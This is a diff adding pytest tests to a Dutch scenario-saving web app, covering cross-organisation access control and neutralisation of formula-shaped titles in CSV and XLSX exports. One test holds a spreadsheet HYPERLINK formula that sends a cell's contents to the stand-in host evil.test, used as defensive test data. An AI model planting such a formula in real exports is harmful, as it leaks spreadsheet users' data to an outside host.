@@ -2,8 +2,12 @@
 CSRF token stores a new version; a lezer, a forged form or a pack name is refused and
 nothing is stored. The saved scenario then runs in the CLI and the API like any other."""
 
+import csv
+import html
+import io
 from collections.abc import Iterator
 
+import polars as pl
 import pytest
 from sqlalchemy import func, select
 
@@ -82,3 +86,53 @@ def test_anonymous_is_sent_to_the_login_page(world: World) -> None:
             "/scenarios/bewaren", data={"name": "plan-y"}, follow_redirects=False
         )
         assert response.status_code == 303 and "/inloggen" in response.headers["location"]
+
+
+def test_only_the_owning_organisation_or_a_beheerder_adds_versions_of_a_name(
+    world: World,
+) -> None:
+    form = {"name": "plan-eigendom", "deelname-bbl": "20"}
+    with world.client() as own:
+        csrf = log_in(own, EMAILS["redacteur_own"])
+        first = own.post("/scenarios/bewaren", data={**form, "csrf": csrf}, follow_redirects=False)
+        assert first.status_code == 303
+    before = stored(world)
+    with world.client() as other:
+        csrf = log_in(other, EMAILS["redacteur_other"])
+        intruder = other.post(
+            "/scenarios/bewaren", data={**form, "csrf": csrf, "deelname-bbl": "90"}
+        )
+        assert intruder.status_code == 403
+        assert "van een andere organisatie" in html.unescape(intruder.text)
+    assert stored(world) == before  # nothing stored: the name still runs the owner's levers
+    with world.client() as beheer:
+        csrf = log_in(beheer, EMAILS["beheerder"])
+        second = beheer.post(
+            "/scenarios/bewaren", data={**form, "csrf": csrf}, follow_redirects=False
+        )
+        assert second.status_code == 303 and "plan-eigendom+v2" in second.headers["location"]
+
+
+FORMULA = '=HYPERLINK("http://evil.test/?leak="&A2,"Klik hier")'
+
+
+def test_a_formula_shaped_title_is_neutralised_in_csv_and_xlsx(world: World) -> None:
+    with world.client() as client:
+        csrf = log_in(client, EMAILS["redacteur_own"])
+        form = {"csrf": csrf, "name": "plan-formule", "title": FORMULA, "deelname-bbl": "20"}
+        assert (
+            client.post("/scenarios/bewaren", data=form, follow_redirects=False).status_code == 303
+        )
+        as_json = client.get("/api/v1/scenarios").json()["data"]
+        as_csv = client.get("/api/v1/scenarios?format=csv").text
+        as_xlsx = client.get("/api/v1/scenarios?format=xlsx").content
+    # JSON carries the title as typed; the spreadsheets get it as text, never as a formula.
+    assert next(s for s in as_json if s["name"] == "plan-formule")["title"] == FORMULA
+    rows = list(csv.DictReader(io.StringIO(as_csv)))
+    titles = {r["name"]: r["title"] for r in rows if r["version"]}
+    assert titles["plan-formule"] == "'" + FORMULA
+    sheet = pl.read_excel(io.BytesIO(as_xlsx))
+    saved = sheet.filter(pl.col("name") == "plan-formule")
+    assert saved["title"].to_list() == ["'" + FORMULA]
+    assert saved["version"].dtype.is_numeric()  # numbers stay numbers
+    assert all(not (cell or "").startswith(("=", "+", "-", "@")) for cell in sheet["title"])
